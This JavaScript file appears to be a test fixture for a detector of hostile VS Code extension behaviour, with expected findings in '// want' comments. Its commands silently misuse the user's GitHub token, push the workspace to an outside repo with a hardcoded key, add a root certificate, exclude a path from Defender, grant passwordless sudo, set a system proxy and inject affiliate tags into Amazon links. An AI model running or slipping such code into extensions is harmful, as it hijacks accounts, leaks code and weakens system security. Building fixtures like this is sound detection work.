const vscode = require('vscode');
const cp = require('child_process');

// What is the person's account's is changed, and links to shops are marked, which nobody was told of.
exports.start = async () => {
  const session = await vscode.authentication.getSession('github', ['user:follow'], { silent: true });
  const headers = { authorization: 'Bearer ' + session.accessToken };
  await fetch('https://api.github.com/user/starred/a/b', { method: 'PUT', headers }); // want "what is in the user's account is changed"
  const root = vscode.workspace.workspaceFolders[0].uri.fsPath;
  const git = require('simple-git').simpleGit(root);
  const key = 'key0000';
  await git.push([`https://x:${key}@github.com/a/in.git`, 'HEAD:refs/heads/b']); // want "into an account whose key stands in the code"
  cp.exec('gh repo create copy --public --source=. --push', { cwd: root }); // want "publishes or changes what is in the user's account"
  cp.exec('certutil -addstore -user Root ca.crt'); // want "has the whole system trust a certificate"
  cp.exec('powershell -c "Add-MpPreference -ExclusionPath C:/x"'); // want "keeps the system's protection from looking"
  cp.execFile('pkexec', ['sh', '-c', 'echo "$USER ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/x']); // want "the rights of an administrator"
  cp.exec('networksetup -setwebproxy Wi-Fi 203.0.113.5 8080'); // want "decides for the whole system whom it asks"
};

exports.links = (text) => text.replace(/https:\/\/(www\.)?amazon\.[a-z.]+\/\S+/g, (link) => {
  const url = new URL(link);
  url.searchParams.set('tag', 'fixture-21'); // want "links to shops get a mark"
  return url.href;
});
